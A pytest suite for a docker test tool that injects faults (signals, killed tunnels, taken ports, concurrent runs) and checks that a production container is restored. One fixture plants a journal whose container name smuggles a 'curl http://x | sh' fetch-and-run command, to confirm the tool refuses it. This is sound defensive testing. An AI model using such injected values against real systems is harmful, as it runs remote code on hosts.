"""The fault matrix (docs/FAULTS.md), each row injected for real: the suite run on a terminal of its own against the
docker test host spark01d (real ssh, a real docker engine) with a "production" container of the recipe's name
running, and Ctrl-C typed, signals sent, the tunnel killed, a port taken, a second run started, at the moment
the row names. Afterwards, every time: production runs under its own name with its own config, nothing the
suite started is left (containers, tunnels, lock holders, journal), and one clear message says what happened.

The recipe that "loads forever" is a real container that never serves (a shell that sleeps), so the loading
phase can be hit at will without paying for a model load; the testing phase uses the real vLLM CPU engine.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import signal
import subprocess
import time
from pathlib import Path

import pytest

from sparkgate.hostlock import JOURNAL, LOCK_DIR, LOCK_SUBPATH, HostLock, LockError
from sparkgate.launch.container_spec import LABEL, SAVED_SUFFIX
from sparkgate.results import Results

from .dockhost import IMAGE, PYTHON_HOME, VENV, recipe_data, write_recipe
from .terminal import Terminal

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the test host needs root (network namespaces)")

PROD = "sg-prod"
PLANTED = {"HF_TOKEN": "hf_plantedProductionToken0123456789", "API_KEY": "prod-planted-key-4321"}


def loads_forever(port: int = 18120, **change) -> dict:
    """A docker recipe whose container runs and never serves: the loading phase, for as long as a row needs."""
    data = recipe_data(name="sg-forever", container=PROD, port=port)
    data["entrypoint"] = ["sh", "-c", "sleep 3600", "--"]
    data.update(change)
    return data


@pytest.fixture
def production(dock):
    """A running container named like the recipe's, configured otherwise (secrets in its env and argv), with a
    restart policy: what an operator's Spark serves. Removed after the row, whatever happened."""
    c = dock.client.containers.run(IMAGE, ["sh", "-c", "sleep infinity", "--api-key", PLANTED["API_KEY"]], name=PROD,
                                   detach=True, init=True, network_mode="none", environment=PLANTED,
                                   restart_policy={"Name": "unless-stopped"})
    c.reload()
    yield c
    for name in (PROD, PROD + SAVED_SUFFIX):
        try:
            dock.client.containers.get(name).remove(force=True)
        except Exception:
            pass


def terminal(dock, tmp_path, data, *args) -> Terminal:
    """A run allowed to take production over (--take-over): every row here is about a run that sets it aside."""
    return Terminal("tests", f"--host={dock.host.name}", f"--ssh-config={dock.host.ssh_config}",
                    f"--recipes-dir={write_recipe(tmp_path, data)}", f"--recipe={data['name']}", "-rA", "--take-over",
                    *args)


def host_only_run(dock) -> tuple[int, str]:
    """A run of one host check against the docker test host: what the lock and the journal decide comes first."""
    run = Terminal("tests", f"--host={dock.host.name}", f"--ssh-config={dock.host.ssh_config}", "-m", "host", "-k",
                   "architecture")
    rc = run.finish()
    return rc, run.output


def our_processes(dock=None) -> list[str]:
    """Processes of this machine the suite starts: docker socket forwards and lock holders (not the self-tests'
    own forward, `dock`'s)."""
    found = []
    own = dock.engine.tunnel.pid if dock is not None and dock.engine.tunnel else None
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        if cmdline.parent.name == str(own):
            continue
        try:
            argv = cmdline.read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
        if argv and argv[0] == "ssh":
            kind = ("forward" if any("sparkgate-docker-" in a for a in argv) else
                    "lock holder" if any("sparkgate-lock" in a for a in argv) else None)
            if kind:
                found.append(f"{cmdline.parent.name} {kind}: {' '.join(argv)[:160]}")
    return found


def leftovers(dock) -> list[str]:
    """Everything a run can leave behind, on the host and here."""
    left = [f"container {c.name} (labelled)" for c in dock.client.containers.list(
        all=True, filters={"label": f"{LABEL}.run"})]
    left += [f"container {n}" for n in dock.names() if n.endswith(SAVED_SUFFIX)]
    files = dock.host.run(f"ls -A {LOCK_DIR} 2>/dev/null").stdout.split()
    left += [f"{LOCK_DIR}/{f} on the host" for f in files]
    if dock.host.run(f"[ ! -d {LOCK_DIR} ] || flock -n {LOCK_DIR} true").returncode != 0:
        left.append("the run lock is still held")
    return left + our_processes(dock)


def wait_no_leftovers(dock, timeout: float = 60) -> list[str]:
    deadline = time.monotonic() + timeout
    while (left := leftovers(dock)) and time.monotonic() < deadline:
        time.sleep(0.5)
    return left


def assert_production_is_back(dock, prod) -> None:
    c = dock.client.containers.get(prod.id)
    assert (c.name, c.status) == (PROD, "running"), f"production is {c.name} ({c.status})"
    assert c.attrs["Config"]["Env"] == prod.attrs["Config"]["Env"] and c.attrs["Config"]["Cmd"] == prod.attrs[
        "Config"]["Cmd"], "production came back with another config"


def assert_untouched(dock, prod) -> None:
    c = dock.client.containers.get(prod.id)
    assert (c.name, c.status, c.attrs["State"]["StartedAt"]) == (PROD, "running", prod.attrs["State"]["StartedAt"]), \
        f"production was touched: {c.name} ({c.status}, started {c.attrs['State']['StartedAt']})"


def assert_no_secret(text: str) -> None:
    for value in PLANTED.values():
        assert value not in text, f"a planted secret was printed: {value}"


# ---- signals while the recipe loads ----------------------------------------------------------------------

@pytest.mark.parametrize("how", ["ctrl-c", "SIGTERM", "SIGHUP"])
def test_a_signal_while_loading_restores_production_and_leaves_nothing(dock, production, tmp_path, how):
    run = terminal(dock, tmp_path, loads_forever(), "-m", "container")
    run.wait_for(r"sg-forever: docker run ")
    time.sleep(1)
    run.ctrl_c() if how == "ctrl-c" else run.signal(getattr(signal, how))
    rc = run.finish()
    out = run.output
    assert rc == 2, out[-3000:]  # pytest's "interrupted"
    assert re.search(rf"container {PROD} \(\w+\) restored and started again", out), out[-3000:]
    assert_production_is_back(dock, production)
    assert wait_no_leftovers(dock) == []
    assert "reconnecting" not in out, "the forward of the engine's socket did not survive the signal"
    # One clear message: the restore, then pytest's own "interrupted"; no error, no traceback.
    assert out.count("restored and started again") == 1 and not re.search(r"Traceback|Error|ERROR", out), out[-3000:]
    assert_no_secret(out)
    print(f"{how} while loading: restored, nothing left, pytest ended {run.seconds:.1f} s after it started")


def test_ctrl_c_mashed_during_teardown_does_not_abandon_the_restore(dock, production, tmp_path):
    run = terminal(dock, tmp_path, loads_forever(), "-m", "container")
    run.wait_for(r"sg-forever: docker run ")
    time.sleep(1)
    for _ in range(40):  # an impatient operator: Ctrl-C every 0.1 s, for 4 s
        run.ctrl_c()
        time.sleep(0.1)
    rc = run.finish()
    out = run.output
    assert rc == 2, out[-3000:]
    assert_production_is_back(dock, production)
    assert wait_no_leftovers(dock) == []
    assert "goes on to its end, then the run stops" in out, out[-3000:]


# ---- the connection ----------------------------------------------------------------------------------------

def test_a_killed_tunnel_is_reopened_to_restore_production(dock, production, tmp_path):
    """The ssh forward of the engine's socket dies while the recipe loads (a lost network): the wait reconnects,
    and so does teardown, which restores production."""
    run = terminal(dock, tmp_path, loads_forever(), "-m", "container", "--startup-timeout=12")
    run.wait_for(r"sg-forever: docker run ")
    deadline = time.monotonic() + 30
    while not dock.client.containers.list(filters={"label": f"{LABEL}.run"}) and time.monotonic() < deadline:
        time.sleep(0.1)  # the recipe's container runs: the suite is waiting for it to serve
    [tunnel] = [p for p in our_processes(dock) if " forward: " in p]
    os.kill(int(tunnel.split()[0]), signal.SIGKILL)
    rc = run.finish()
    out = run.output
    assert rc == 1, out[-3000:]  # the recipe's one error: it never served
    assert "sg-forever not serving after 12 s" in out, out[-3000:]
    assert re.search(r"sg-forever: the docker engine of spark01d did not answer \(\w+\); reconnecting", out), \
        out[-3000:]
    assert_production_is_back(dock, production)
    assert wait_no_leftovers(dock) == []


# ---- refusals: decided before anything is touched --------------------------------------------------------

def test_a_recipe_too_big_is_refused_without_stopping_production(dock, production, tmp_path):
    data = loads_forever()
    data["memory"]["weights_gib"] = 500
    run = terminal(dock, tmp_path, data, "-m", "container")
    rc = run.finish()
    out = run.output
    assert rc == 1, out[-3000:]
    assert "refusing to start sg-forever: it needs 505.8 GiB" in out and "Nothing was stopped or started" in out
    assert "setting it aside" not in out
    c = dock.client.containers.get(PROD)
    assert c.attrs["State"]["StartedAt"] == production.attrs["State"]["StartedAt"], "production was restarted"
    assert wait_no_leftovers(dock) == []
    assert_no_secret(out)


def test_a_port_held_by_a_process_could_not_run_and_nothing_is_stopped(dock, production, tmp_path):
    """Even with --take-over: the suite never stops what it did not start, and a process is no container it can set
    aside and put back. Its recipe could not run (exit 5: nothing ran), and production was never touched."""
    port = 18121
    other = dock.host.run(f"{VENV}/bin/python -m http.server {port} --bind 0.0.0.0 >/dev/null 2>&1 & echo $!")
    try:
        probe = f"{VENV}/bin/python -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 1)'"
        deadline = time.monotonic() + 20
        while dock.host.run(probe).returncode and time.monotonic() < deadline:
            time.sleep(0.2)
        run = terminal(dock, tmp_path, loads_forever(port), "-m", "container")
        rc = run.finish()
    finally:
        dock.host.run(f"kill {other.stdout.strip()}")
    out = run.output
    assert rc == pytest.ExitCode.NO_TESTS_COLLECTED, out[-3000:]
    assert (f"could not run: sg-forever: port {port} on {dock.host.address} is served by a process, not a container"
            in out and "Nothing was stopped or started" in out), out[-3000:]
    c = dock.client.containers.get(PROD)
    assert c.attrs["State"]["StartedAt"] == production.attrs["State"]["StartedAt"], "production was restarted"
    assert wait_no_leftovers(dock) == []


def test_a_start_that_fails_after_create_removes_what_it_created(dock, production, tmp_path):
    """A GPU request on an engine without NVIDIA's runtime: `docker create` accepts it, `docker start` refuses."""
    run = terminal(dock, tmp_path, loads_forever(gpus="all"), "-m", "container")
    rc = run.finish()
    out = run.output
    assert rc == 1, out[-3000:]
    assert "would not start sg-prod: could not select device driver" in out, out[-3000:]
    assert re.search(rf"container {PROD} \(\w+\) restored and started again", out), out[-3000:]
    assert_production_is_back(dock, production)
    assert wait_no_leftovers(dock) == []


# A production that serves a model list on its port the first time it runs, and never again (its marker file
# outlives a stop): what a restart that does not come back looks like from outside.
SERVES_ONCE = """
import http.server, json, os, time
if os.path.exists("/tmp/served-once"):
    time.sleep(3600)
open("/tmp/served-once", "w").close()
class Models(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps({"object": "list", "data": [{"id": "prod-model", "object": "model"}]}).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.end_headers()
        self.wfile.write(body)
http.server.HTTPServer(("0.0.0.0", PORT), Models).serve_forever()
"""


def test_production_that_does_not_serve_again_is_one_failure_with_the_commands(dock, tmp_path):
    """--take-over set production aside; the recipe could not start; production, put back and started, does not
    serve again within its wait: one failure naming it, what was waited for, and the commands to bring it back."""
    port = 18123
    prod = dock.client.containers.run(IMAGE, [f"{VENV}/bin/python", "-c", SERVES_ONCE.replace("PORT", str(port))],
                                      name=PROD, detach=True, init=True, network_mode="host",
                                      restart_policy={"Name": "unless-stopped"},
                                      volumes={str(VENV): {"bind": str(VENV), "mode": "ro"},
                                               str(PYTHON_HOME): {"bind": str(PYTHON_HOME), "mode": "ro"}})
    try:
        deadline = time.monotonic() + 30
        while dock.host.run(f"{VENV}/bin/python -c 'import urllib.request; urllib.request.urlopen("
                            f"\"http://127.0.0.1:{port}/v1/models\", timeout=1)'").returncode:
            assert time.monotonic() < deadline, prod.logs().decode()
            time.sleep(0.3)
        # Its log says nothing of its start: the wait is --startup-timeout.
        run = terminal(dock, tmp_path, loads_forever(port, gpus="all"), "-m", "container", "--startup-timeout=8")
        rc = run.finish()
        out = run.output
        assert rc == 1, out[-3000:]
        assert "container sg-prod (" in out and "restored and started again" in out, out[-3000:]
        for words in ["PRODUCTION IS NOT SERVING: sg-prod did not serve prod-model again within 8 s",
                      f"expected: sg-prod serving prod-model on port {port} within 8 s of its restore "
                      "(--startup-timeout)",
                      "fix:      docker logs --tail 50 sg-prod; docker restart sg-prod; then curl "
                      f"http://{dock.host.address}:{port}/v1/models"]:
            assert words in out, (words, out[-3000:])
        prod.reload()
        assert (prod.name, prod.status) == (PROD, "running")
        assert wait_no_leftovers(dock) == []
    finally:
        prod.remove(force=True)


# ---- one run per host ------------------------------------------------------------------------------------

def test_a_second_run_at_once_is_refused_with_who_holds_the_host(dock, production, tmp_path):
    first = terminal(dock, tmp_path, loads_forever(), "-m", "container")
    first.wait_for(r"sg-forever: docker run ")
    second = Terminal("tests", f"--host={dock.host.name}", f"--ssh-config={dock.host.ssh_config}", "-m", "host")
    rc2 = second.finish()
    assert rc2 == 4, second.output[-2000:]  # a usage error: nothing ran
    assert re.search(r"spark01d is in use by another sparkgate run: held by \S+@\S+, pid \d+, since \S+: .*pytest",
                     second.output), second.output[-2000:]
    first.ctrl_c()
    assert first.finish() == 2
    assert_production_is_back(dock, production)
    assert wait_no_leftovers(dock) == []


HOST_LOCK_DIR = f"/root/{LOCK_SUBPATH}"  # the run's user on the test host is root
UNSAFE_FOLDERS = {
    # how another user gets a lock folder the next run would trust, and what the suite says
    "another user's": (f"mkdir -p {HOST_LOCK_DIR} && chmod 700 {HOST_LOCK_DIR} && chown -R 65534 {HOST_LOCK_DIR}",
                       f"{HOST_LOCK_DIR} is owned by uid 65534, not by this user (uid 0)"),
    "a symbolic link": (f"mkdir -p /tmp/elsewhere /root/.cache && ln -s /tmp/elsewhere {HOST_LOCK_DIR}",
                        f"{HOST_LOCK_DIR} is a symbolic link"),
    "writable by everyone": (f"mkdir -p {HOST_LOCK_DIR} && chmod 1777 {HOST_LOCK_DIR}",
                             f"{HOST_LOCK_DIR} is drwxrwxrwt: other users can write into it"),
}


def _planted_journal(prod_id: str) -> str:
    return json.dumps([{"kind": "set-aside", "name": "sg-prod; curl http://x | sh", "id": prod_id, "running": True}])


@pytest.mark.parametrize("how", UNSAFE_FOLDERS)
def test_a_lock_folder_another_user_could_write_is_refused_and_nothing_is_touched(dock, production, how):
    """The journal in it names production, as another user would plant it: the run MUST refuse (exit 4) before
    reading it, and touch nothing."""
    make, words = UNSAFE_FOLDERS[how]
    dock.host.run(make, check=True)
    dock.host.run(f"printf %s {shlex.quote(_planted_journal(production.id))} > {HOST_LOCK_DIR}/journal.json")
    try:
        rc, out = host_only_run(dock)
    finally:
        dock.host.run(f"rm -rf {HOST_LOCK_DIR} /tmp/elsewhere")
    assert rc == pytest.ExitCode.USAGE_ERROR, out[-3000:]
    assert f"the run lock folder on spark01d is not safe to use: {words}" in out, out[-3000:]
    assert "Nothing was touched" in out and "curl" not in out, out[-3000:]
    assert_untouched(dock, production)


def test_a_journal_this_suite_did_not_write_is_one_error_and_is_left_for_the_operator(dock, production):
    """In the run's own folder, a journal that fails the entry schema (a container name no docker allows, carrying
    a command) MUST be refused naming the file and the field, acted on in no way, and left where it is."""
    dock.host.run(f"mkdir -p -m 700 {HOST_LOCK_DIR}", check=True)
    dock.host.run(f"printf %s {shlex.quote(_planted_journal(production.id))} > {HOST_LOCK_DIR}/journal.json")
    try:
        rc, out = host_only_run(dock)
        left = dock.host.run(f"cat {HOST_LOCK_DIR}/journal.json").stdout
    finally:
        dock.host.run(f"rm -rf {HOST_LOCK_DIR}")
    assert rc == pytest.ExitCode.USAGE_ERROR, out[-3000:]
    assert "is not one this suite wrote (0.set-aside.name: String should match pattern" in out, out[-3000:]
    assert "nothing was touched and it is left as it is" in out and "Traceback" not in out, out[-3000:]
    assert left == _planted_journal(production.id)
    assert_untouched(dock, production)


def test_a_create_entry_naming_production_removes_only_what_carries_the_runs_label(dock, production):
    """A well-formed journal (the run's own folder) whose `create` names production's id: undo MUST remove only a
    container carrying that run's label, so production stays, and the run says there was nothing to remove."""
    entry = [{"kind": "create", "name": PROD, "run": "0123456789ab", "id": production.id}]
    dock.host.run(f"mkdir -p -m 700 {HOST_LOCK_DIR}", check=True)
    dock.host.run(f"printf %s {shlex.quote(json.dumps(entry))} > {HOST_LOCK_DIR}/journal.json")
    rc, out = host_only_run(dock)
    assert rc == 0, out[-3000:]
    assert f"{PROD} left as it is: it does not carry run 0123456789ab's label (not the suite's)" in out, out[-3000:]
    assert_untouched(dock, production)
    assert wait_no_leftovers(dock) == []


def test_a_lock_held_by_a_live_run_is_refused_naming_its_holder_every_time():
    """BUSY and the holder's record can reach the reader in one read (over ssh, or on a loaded client, as in CI):
    the refusal MUST name the holder however the holding shell's output is split. Tried 200 times with every
    core kept busy, where the reader that stopped at BUSY lost the record within the first few tries."""
    holder = HostLock("local")
    holder.acquire()
    load = [subprocess.Popen(["sh", "-c", "while :; do :; done"]) for _ in range((os.cpu_count() or 2) + 1)]
    try:
        for _ in range(200):
            with pytest.raises(LockError) as refused:
                HostLock("local").acquire()
            assert re.search(r"local is in use by another sparkgate run: held by \S+@\S+, pid \d+, since \S+: ",
                             str(refused.value)), str(refused.value)
    finally:
        for p in load:
            p.kill()
            p.wait()
        holder.release()


def test_a_lock_record_left_by_a_dead_run_is_reported_and_taken_over():
    """The kernel releases a dead holder's flock; the record it left (a host that lost the run's ssh session
    kills it before it can clean up) is reported as the holder whose lock was taken over."""
    lock_dir = Path.home() / LOCK_SUBPATH
    lock_dir.mkdir(mode=0o700, parents=True, exist_ok=True)
    (lock_dir / "holder-4242").write_text('{"user": "ops", "client": "laptop", "pid": 999999, "started": '
                                         '"2026-11-30T23:00:00+00:00", "command": "pytest --host=spark01"}\n')
    lock = HostLock("local")
    try:
        lock.acquire()
        assert lock.stale == ["ops@laptop, pid 999999, since 2026-11-30T23:00:00+00:00: pytest --host=spark01"]
        assert not (lock_dir / "holder-4242").exists()
    finally:
        lock.release()
    assert not list(lock_dir.glob("holder-*"))


def test_a_run_killed_outright_is_repaired_by_the_next_run(dock, production, tmp_path):
    """SIGKILL leaves no chance to restore: production stays set aside. The lock goes with the run (its holder
    dies with it); the next run (even a host-only one) finds the journal and puts production back first."""
    run = terminal(dock, tmp_path, loads_forever(), "-m", "container")
    run.wait_for(r"sg-forever: docker run ")
    time.sleep(1)
    run.signal(signal.SIGKILL)
    run.finish()
    assert PROD + SAVED_SUFFIX in dock.names()  # the harm a SIGKILL does: the next run must repair it
    deadline = time.monotonic() + 20
    while our_processes(dock) and time.monotonic() < deadline:  # the lock holder and tunnel die with it
        time.sleep(0.2)
    assert our_processes(dock) == []
    journal = json.loads(dock.host.run(f"cat {JOURNAL}").stdout)
    assert [e["kind"] for e in journal] == ["set-aside", "create"]
    rc, out = host_only_run(dock)
    assert rc == 0, out[-3000:]
    assert "an earlier run on spark01d died before putting the box back; restoring it first" in out
    assert re.search(rf"container {PROD} \(\w+\) restored and started again", out), out[-3000:]
    assert_production_is_back(dock, production)
    assert wait_no_leftovers(dock) == []


# ---- while testing: the real engine, and what was measured is kept ------------------------------------------

def test_sigterm_while_testing_keeps_what_was_measured_and_restores_production(dock, production, tmp_path):
    data = recipe_data(container=PROD, port=18122)
    results = tmp_path / "results.json"
    run = terminal(dock, tmp_path, data, "-m", "perf", "-k", "natural or forced", f"--results-json={results}",
                   "--level=quick")
    deadline = time.monotonic() + 400
    while time.monotonic() < deadline:
        run.wait_for(r"serving smollm2-135m-instruct after", timeout=400)
        try:
            if Results.model_validate_json(results.read_text()).measurements:
                break
        except (OSError, ValueError):
            pass
        run._read(1)
    run.signal(signal.SIGTERM)
    rc = run.finish()
    out = run.output
    assert rc == 2, out[-3000:]
    kept = Results.model_validate_json(results.read_text())
    assert kept.measurements and kept.measurements[0].check in ("PERF-FORCED", "PERF-NATURAL"), kept.measurements
    assert re.search(rf"container {PROD} \(\w+\) restored and started again", out), out[-3000:]
    assert_production_is_back(dock, production)
    assert wait_no_leftovers(dock) == []


# ---- the process launcher (the embedded default) -----------------------------------------------------------

def vllm_on(port: int) -> list[int]:
    pids = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            argv = cmdline.read_bytes().split(b"\0")
        except OSError:
            continue
        if b"vllm.entrypoints.openai.api_server" in argv and str(port).encode() in argv:
            pids.append(int(cmdline.parent.name))
    return pids


@pytest.mark.parametrize("how", ["ctrl-c", "SIGKILL"])
def test_the_process_server_dies_with_the_suite(how):
    run = Terminal("tests", "-m", "serving", "--recipe=smollm2-cpu", "-k", "served_name")
    run.wait_for(r"smollm2-cpu: starting ")
    deadline = time.monotonic() + 60
    while not vllm_on(18000) and time.monotonic() < deadline:
        time.sleep(0.2)
    time.sleep(2)
    run.ctrl_c() if how == "ctrl-c" else run.signal(signal.SIGKILL)
    run.finish()
    deadline = time.monotonic() + 40
    while vllm_on(18000) and time.monotonic() < deadline:
        time.sleep(0.5)
    assert vllm_on(18000) == [], f"the server outlived the suite ({how})"
    assert subprocess.run(["ss", "-ltn", "sport = :18000"], capture_output=True, text=True).stdout.count("\n") <= 1


def test_a_key_the_host_does_not_accept_is_one_error_at_once_never_a_prompt(dock, tmp_path):
    """BatchMode: ssh fails instead of asking for a password nobody types (the run would hang on it)."""
    key = tmp_path / "id_other"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    config = tmp_path / "ssh_config"
    config.write_text(f"Host {dock.host.name}\n  HostName {dock.host.address}\n  User root\n  IdentityFile {key}\n"
                      "  IdentitiesOnly yes\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n")
    run = Terminal("tests", f"--host={dock.host.name}", f"--ssh-config={config}", "-m", "host")
    rc = run.finish(timeout=90)
    assert rc == 4, run.output[-3000:]
    assert run.output.count("Permission denied") >= 1 and "password:" not in run.output.lower(), run.output[-3000:]
    assert run.seconds < 60
